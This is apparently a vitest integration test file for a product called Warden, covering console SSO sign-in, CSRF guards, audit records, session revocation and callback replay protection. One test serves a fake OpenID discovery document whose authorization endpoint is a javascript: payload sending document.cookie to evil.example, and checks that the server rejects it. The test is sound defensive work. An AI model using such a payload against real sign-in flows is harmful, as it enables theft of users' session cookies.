import { createServer } from 'node:http';
import type { AddressInfo } from 'node:net';
import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { ALICE, UNVERIFIED, startOAuthFixture } from '../oauth/test-support/oauth-fixture.ts';
import type { OAuthFixture } from '../oauth/test-support/oauth-fixture.ts';
import { ScriptedUserAgent } from '../oauth/test-support/user-agent.ts';

/**
 * Console sign-in through the tenant's SSO, against a real OpenID Connect provider (oidc-provider)
 * and Warden on a real port, with a cookie-keeping HTTP client as the browser.
 */
describe('console sign-in with the tenant’s SSO', () => {
  let f: OAuthFixture;

  const ssoConfig = (consoleAdmins?: string[]) => ({
    issuer: f.idp.issuer,
    client_id: f.idp.clientId,
    client_secret: f.idp.clientSecret,
    allowed_email_domains: ['acme.com'],
    ...(consoleAdmins ? { console_admins: consoleAdmins } : {}),
  });

  /** A browser that stops where Warden sends it back to the console (or at `stopAt`). */
  const browser = (stopAt?: string) => new ScriptedUserAgent([stopAt ?? `${f.base}/console`]);

  /** The sign-in page's "Sign in with SSO": a same-origin JSON post, its cookies kept. */
  async function startSso(ua: ScriptedUserAgent, body: Record<string, string>) {
    const url = `${f.base}/console/api/sso`;
    const cookie = await ua.jar.getCookieString(url);
    const res = await fetch(url, {
      method: 'POST',
      headers: { 'content-type': 'application/json', ...(cookie ? { cookie } : {}) },
      body: JSON.stringify(body),
    });
    for (const setCookie of res.headers.getSetCookie()) await ua.jar.setCookie(setCookie, url);
    return {
      status: res.status,
      body: (await res.json()) as Record<string, unknown> & { redirect_url?: string },
    };
  }

  /** Signs in at the IdP from the console; returns where the browser stopped. */
  async function ssoSignIn(ua: ScriptedUserAgent, user: { email: string; password: string }) {
    const started = await startSso(ua, { email: user.email });
    expect(started.status, JSON.stringify(started.body)).toBe(200);
    const idpLogin = await ua.get(started.body.redirect_url!);
    expect(idpLogin.url.startsWith(f.idp.issuer), idpLogin.body).toBe(true);
    const idpConsent = await ua.submit(idpLogin, { login: user.email, password: user.password });
    return idpConsent.url.startsWith(f.idp.issuer) && idpConsent.status !== 0
      ? ua.submit(idpConsent)
      : idpConsent;
  }

  async function consoleCookie(ua: ScriptedUserAgent): Promise<string | undefined> {
    return (await ua.jar.getCookies(`${f.base}/console/api/session`)).find((c) => c.key === 'warden_console')
      ?.value;
  }

  /** The console session of this browser, as the page asks for it. */
  async function session(ua: ScriptedUserAgent) {
    const cookie = await ua.jar.getCookieString(`${f.base}/console/api/session`);
    const res = await fetch(`${f.base}/console/api/session`, { headers: cookie ? { cookie } : {} });
    return { status: res.status, body: (await res.json()) as { session?: Record<string, unknown> } };
  }

  async function consoleSignInRecords() {
    return f.t.container.db.kysely
      .selectFrom('audit_events')
      .select(['outcome', 'identifier', 'caller_type', 'caller_id', 'error_message'])
      .where('tenant_id', '=', f.tenant.tenantId)
      .where('action', '=', 'console.sign_in')
      .orderBy('seq')
      .execute();
  }

  beforeAll(async () => {
    f = await startOAuthFixture();
  });
  afterAll(async () => {
    await f?.close();
  });

  it('lets no one in until the tenant names console admins: a clear refusal, recorded, no session', async () => {
    const ua = browser();
    const back = await ssoSignIn(ua, ALICE);
    expect(back.status).toBe(0);
    expect(back.url).toBe(`${f.base}/console?sso_error=not_admin`);
    expect(await consoleCookie(ua)).toBeUndefined();
    expect((await session(ua)).status).toBe(401);
    expect(await consoleSignInRecords()).toEqual([
      {
        outcome: 'refused',
        identifier: ALICE.email,
        caller_type: 'sso',
        caller_id: ALICE.email,
        error_message: expect.stringContaining('not a console admin'),
      },
    ]);
  });

  it('refuses what the SSO rules refuse (an email the IdP did not verify), recorded', async () => {
    expect((await f.api('PUT', '/api/v1/mcp/sso', ssoConfig([ALICE.email, UNVERIFIED.email]))).status).toBe(
      200,
    );
    const ua = browser();
    const back = await ssoSignIn(ua, UNVERIFIED);
    expect(back.url).toBe(`${f.base}/console?sso_error=refused`);
    expect(await consoleCookie(ua)).toBeUndefined();
    const records = await consoleSignInRecords();
    expect(records.at(-1)).toMatchObject({ outcome: 'refused', caller_type: 'sso' });
    expect(records.at(-1)!.error_message).toContain('verified email');
  });

  it('signs a named admin in: the same httpOnly SameSite=Strict session, CSRF-guarded, changes audited as the person', async () => {
    const put = await f.api('PUT', '/api/v1/mcp/sso', ssoConfig([ALICE.email]));
    expect(put.status).toBe(200);
    expect(put.body.sso.console_admins).toEqual([ALICE.email]);
    const ua = browser();
    const back = await ssoSignIn(ua, ALICE);
    expect(back.url).toBe(`${f.base}/console`);
    const cookies = await ua.jar.getCookies(`${f.base}/console`);
    const cookie = cookies.find((c) => c.key === 'warden_console');
    expect(cookie).toMatchObject({ httpOnly: true, sameSite: 'strict', path: '/' });
    // The binding cookie of the SSO round trip is gone once used.
    expect(cookies.find((c) => c.key === 'warden_sso_binding')?.value ?? '').toBe('');

    const signedIn = await session(ua);
    expect(signedIn.status).toBe(200);
    expect(signedIn.body.session).toMatchObject({
      kind: 'tenant',
      tenant: { id: f.tenant.tenantId, name: 'Acme' },
      sso_identifier: ALICE.email,
    });
    const csrf = signedIn.body.session!.csrf_token as string;
    const jar = await ua.jar.getCookieString(`${f.base}/api/v1/policy`);

    const accounts = await fetch(`${f.base}/api/v1/connected_accounts`, { headers: { cookie: jar } });
    expect(accounts.status).toBe(200);
    const change = (headers: Record<string, string>) =>
      fetch(`${f.base}/api/v1/policy`, {
        method: 'PUT',
        headers: { cookie: jar, 'content-type': 'application/json', ...headers },
        body: JSON.stringify({ read_only: true }),
      });
    expect((await change({})).status).toBe(403);
    expect((await change({ 'x-csrf-token': csrf })).status).toBe(200);
    const policyRecord = await f.t.container.db.kysely
      .selectFrom('audit_events')
      .select(['caller_type', 'caller_id', 'client_name'])
      .where('tenant_id', '=', f.tenant.tenantId)
      .where('action', '=', 'policy.changed')
      .orderBy('seq', 'desc')
      .executeTakeFirstOrThrow();
    expect(policyRecord).toEqual({
      caller_type: 'sso',
      caller_id: ALICE.email,
      client_name: 'warden-console',
    });
    expect((await consoleSignInRecords()).at(-1)).toMatchObject({
      outcome: 'success',
      identifier: ALICE.email,
      caller_type: 'sso',
      caller_id: ALICE.email,
    });
  });

  it('ends the session when the SSO configuration changes, is removed, or the identity is offboarded', async () => {
    const signIn = async () => {
      const ua = browser();
      expect((await ssoSignIn(ua, ALICE)).url).toBe(`${f.base}/console`);
      expect((await session(ua)).status).toBe(200);
      return ua;
    };
    expect((await f.api('PUT', '/api/v1/mcp/sso', ssoConfig([ALICE.email]))).status).toBe(200);
    let ua = await signIn();
    expect((await f.api('PUT', '/api/v1/mcp/sso', ssoConfig([ALICE.email]))).status).toBe(200);
    expect((await session(ua)).status).toBe(401);

    ua = await signIn();
    expect((await f.api('DELETE', '/api/v1/mcp/sso')).status).toBe(204);
    expect((await session(ua)).status).toBe(401);

    const configured = await f.api('PUT', '/api/v1/mcp/sso', ssoConfig([ALICE.email, 'dana@acme.com']));
    expect(configured.status).toBe(200);
    ua = await signIn();
    const offboard = await f.api(
      'POST',
      `/api/v1/identities/${encodeURIComponent(ALICE.email)}/offboard`,
      {},
    );
    expect(offboard.status).toBe(200);
    expect((await session(ua)).status).toBe(401);
    // Offboarding takes her off the console admins, so she cannot sign straight back in; the
    // configuration is otherwise unchanged (another admin's sessions go on).
    const after = await f.api('GET', '/api/v1/mcp/sso');
    expect(after.body.sso).toMatchObject({
      console_admins: ['dana@acme.com'],
      updated_at: configured.body.sso.updated_at,
    });
    const again = browser();
    expect((await ssoSignIn(again, ALICE)).url).toBe(`${f.base}/console?sso_error=not_admin`);
    expect(await consoleCookie(again)).toBeUndefined();
    const record = await f.t.container.db.kysely
      .selectFrom('audit_events')
      .select('details')
      .where('tenant_id', '=', f.tenant.tenantId)
      .where('action', '=', 'identity.offboard')
      .orderBy('seq', 'desc')
      .executeTakeFirstOrThrow();
    expect(record.details).toMatchObject({ console_admin_revoked: true });
  });

  it('finishes only in the browser that started it: a replayed, forged or reused callback gets no session', async () => {
    expect((await f.api('PUT', '/api/v1/mcp/sso', ssoConfig([ALICE.email]))).status).toBe(200);
    const callback = `${f.base}/oauth/sso/callback`;
    const started = browser(callback);
    const atCallback = await ssoSignIn(started, ALICE);
    expect(atCallback.status).toBe(0);
    expect(atCallback.url.startsWith(callback)).toBe(true);

    // The same browser, now following the callback (same cookies, no longer stopping there).
    const sameBrowser = browser();
    for (const c of await started.jar.getCookies(atCallback.url))
      await sameBrowser.jar.setCookie(c, atCallback.url);

    // Another browser presenting the callback URL (leaked, replayed): refused, nothing used up.
    const other = browser();
    const replayed = await other.get(atCallback.url);
    expect(replayed.status).toBe(400);
    expect(replayed.body).toContain('does not belong to a sign-in started in this browser');
    expect(await consoleCookie(other)).toBeUndefined();

    // The state does not match the one this browser's sign-in was started with.
    const forged = new URL(atCallback.url);
    forged.searchParams.set('state', 'not-the-state-of-this-sign-in');
    const mismatch = await sameBrowser.get(forged.href);
    expect(mismatch.status).toBe(400);
    expect(await consoleCookie(sameBrowser)).toBeUndefined();

    // The real browser still finishes, once.
    const finished = await sameBrowser.get(atCallback.url);
    expect(finished.url).toBe(`${f.base}/console`);
    expect(await consoleCookie(sameBrowser)).toBeDefined();
    const again = await sameBrowser.get(atCallback.url);
    expect(again.status).toBe(400);
  });

  it("starts only at the email domain's one tenant: another tenant cannot claim the domain nor be chosen", async () => {
    expect((await f.api('PUT', '/api/v1/mcp/sso', ssoConfig([ALICE.email]))).status).toBe(200);
    const beta = await f.t.createTenant('Acme Beta');
    f.t.secrets.add(beta.apiKey);
    const put = await f.t.app.inject({
      method: 'PUT',
      url: '/api/v1/mcp/sso',
      headers: { authorization: `Bearer ${beta.apiKey}` },
      payload: ssoConfig([]),
    });
    expect(put.statusCode, put.body).toBe(409);
    expect(put.json().error).toMatchObject({ code: 'conflict', field: 'allowed_email_domains' });
    const ua = browser();
    // Naming a tenant is not part of the request: the domain decides.
    const named = await startSso(ua, { email: ALICE.email, tenant_id: beta.tenantId });
    expect(named.status).toBe(400);
    const started = await startSso(ua, { email: ALICE.email });
    expect(started.status).toBe(200);
    expect(started.body).not.toHaveProperty('tenants');
    expect(started.body.redirect_url!.startsWith(`${f.idp.issuer}/`)).toBe(true);
    const idpLogin = await ua.get(started.body.redirect_url!);
    const idpConsent = await ua.submit(idpLogin, { login: ALICE.email, password: ALICE.password });
    const back = idpConsent.status === 0 ? idpConsent : await ua.submit(idpConsent);
    expect(back.url).toBe(`${f.base}/console`);
    const signedIn = await session(ua);
    expect(signedIn.status).toBe(200);
    expect(JSON.stringify(signedIn.body)).toContain(f.tenant.tenantId);
    expect(JSON.stringify(signedIn.body)).not.toContain(beta.tenantId);
  });

  it('refuses at PUT a provider whose discovery names a non-https authorization endpoint (javascript:), naming issuer', async () => {
    const discovery = createServer((req, res) => {
      const issuer = `http://127.0.0.1:${(discovery.address() as AddressInfo).port}`;
      if (req.url !== '/.well-known/openid-configuration') return void res.writeHead(404).end();
      res.writeHead(200, { 'content-type': 'application/json' }).end(
        JSON.stringify({
          issuer,
          authorization_endpoint: 'javascript:fetch("https://evil.example/"+document.cookie)//',
          token_endpoint: `${issuer}/token`,
          jwks_uri: `${issuer}/jwks`,
          response_types_supported: ['code'],
          subject_types_supported: ['public'],
          id_token_signing_alg_values_supported: ['RS256'],
        }),
      );
    });
    await new Promise<void>((resolve) => discovery.listen(0, '127.0.0.1', resolve));
    try {
      const put = await f.api('PUT', '/api/v1/mcp/sso', {
        issuer: `http://127.0.0.1:${(discovery.address() as AddressInfo).port}`,
        client_id: 'warden',
        client_secret: 'whatever-secret',
        allowed_email_domains: ['acme.com'],
      });
      expect(put.status, JSON.stringify(put.body)).toBe(400);
      expect(put.body.error).toMatchObject({ code: 'invalid_request', field: 'issuer' });
      expect(put.body.error.message).toMatch(/authorization_endpoint is not an https:\/\/ URL/);
    } finally {
      await new Promise((resolve) => discovery.close(resolve));
    }
  });

  it('answers a clear 400 for an email no tenant signs in with, and for a bad console_admins entry', async () => {
    const ua = browser();
    const unknown = await startSso(ua, { email: 'bob@nowhere.example' });
    expect(unknown.status).toBe(400);
    expect(unknown.body).toMatchObject({ error: { code: 'invalid_request', field: 'email' } });
    const bad = await f.api('PUT', '/api/v1/mcp/sso', ssoConfig(['alice\u0007@acme.com']));
    expect(bad.status).toBe(400);
    expect(bad.body).toMatchObject({ error: { code: 'invalid_request', field: 'console_admins' } });
  });
});
